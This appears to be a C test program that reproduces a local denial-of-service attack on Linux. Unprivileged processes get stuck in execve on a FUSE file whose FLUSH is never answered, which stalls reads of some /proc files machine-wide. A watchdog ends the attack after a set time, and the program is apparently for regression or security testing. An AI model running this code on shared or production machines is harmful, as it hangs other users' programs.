/* SPDX-License-Identifier: Apache-2.0 */
/*
 * stuck-exec UID MS PROCESSES [CONTROL]: processes of a local user without any right that stay in
 * execve. Each has a close-on-exec file in FUSE, and the FLUSH of this file is not answered. With
 * CONTROL, the path of the NVIDIA control file, they have this file open, too.
 *
 * As long as they are there, reads of some files in /proc wait, in all programs of the machine. So
 * they are there for MS milliseconds at most: a process of its own kills the FUSE server then,
 * which aborts the connection, however the others fare.
 *
 * Prints the pids of the processes in one line. A line on standard input begins the attack, and
 * `stuck` is printed when the processes are in execve. It ends when MS have passed or when standard
 * input is closed. Exit status 77, with the reason: it cannot be done here.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "support/mute_fuse.h"

#define FOLDER        "/mnt" /* for the server's mount; every Linux has it */
#define PROCESSES_MAX 64
#define IN_EXECVE_US  200000 /* from the order to execve until the FLUSH is asked for */

__attribute__((noreturn)) static void skip(const char *what)
{
	printf("cannot %s: %s\n", what, strerror(errno));
	exit(77);
}

/* The process of the attacker. A byte from `order` sends it into execve. */
__attribute__((noreturn)) static void attack(const struct mute_fuse *fuse, uid_t uid,
					     const char *control, int order)
{
	char path[64], byte;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (open(mute_fuse_path(fuse, FOLDER "/file", path, sizeof path), O_RDONLY | O_CLOEXEC) < 0)
		_exit(1);
	if (control && open(control, O_RDWR) < 0) /* stays open in execve */
		_exit(1);
	if (setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
		_exit(1);
	prctl(PR_SET_DUMPABLE, 1);
	prctl(PR_SET_PDEATHSIG, SIGKILL); /* a new uid has cleared it */
	if (write(order, "r", 1) != 1 || read(order, &byte, 1) != 1)
		_exit(1);
	execl("/bin/sleep", "stuck-exec", "60", (char *)NULL);
	_exit(1);
}

/* It has no files and no parent that could end it. */
static void start_watchdog(const struct mute_fuse *fuse, unsigned ms)
{
	pid_t server = fuse->server, pid = fork();

	if (pid < 0)
		skip("start the watchdog");
	if (pid)
		return;
	setsid();
	close_range(0, ~0u, 0);
	usleep(ms * 1000);
	kill(server, SIGKILL);
	_exit(0);
}

static pid_t start_process(const struct mute_fuse *fuse, uid_t uid, const char *control, int *order)
{
	int pair[2];
	pid_t pid;
	char byte;

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair))
		skip("make a socket");
	pid = fork();
	if (!pid) {
		close(pair[0]);
		attack(fuse, uid, control, pair[1]);
	}
	close(pair[1]);
	*order = pair[0];
	if (pid < 0 || read(*order, &byte, 1) != 1)
		skip("start a process with a file in FUSE");
	return pid;
}

int main(int argc, char **argv)
{
	unsigned n = argc > 3 ? (unsigned)strtoul(argv[3], NULL, 10) : 0;
	int order[PROCESSES_MAX];
	pid_t pid[PROCESSES_MAX];
	struct mute_fuse fuse;
	char byte;

	if (argc < 4 || !n || n > PROCESSES_MAX)
		return 2;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (!mute_fuse_start(&fuse, FOLDER, NULL))
		skip("mount FUSE");
	for (unsigned i = 0; i < n; i++) {
		pid[i] =
			start_process(&fuse, (uid_t)strtoul(argv[1], NULL, 10), argv[4], &order[i]);
		printf(i + 1 < n ? "%d " : "%d\n", pid[i]);
	}
	fflush(stdout);
	if (read(STDIN_FILENO, &byte, 1) == 1) {
		struct pollfd p = {.fd = STDIN_FILENO, .events = POLLIN};
		unsigned ms = (unsigned)strtoul(argv[2], NULL, 10);

		start_watchdog(&fuse, ms);
		mute_fuse_silence(&fuse);
		for (unsigned i = 0; i < n; i++)
			(void)!write(order[i], "x", 1);
		usleep(IN_EXECVE_US);
		printf("stuck\n");
		fflush(stdout);
		poll(&p, 1, (int)ms); /* the watchdog is earlier */
	}
	mute_fuse_stop(&fuse);
	for (unsigned i = 0; i < n; i++) {
		kill(pid[i], SIGKILL);
		waitpid(pid[i], NULL, 0);
	}
	return 0;
}
